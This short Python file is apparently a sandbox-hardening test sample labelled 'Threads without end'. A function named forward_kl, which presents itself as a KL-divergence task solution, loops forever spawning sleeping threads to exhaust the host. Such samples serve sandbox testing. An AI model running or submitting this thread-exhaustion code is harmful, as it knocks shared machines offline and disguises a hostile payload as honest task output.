# Threads without end.
# safe on stock: no
# %% task: forward_kl
import threading
import time


def forward_kl(student_logits, teacher_logits):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
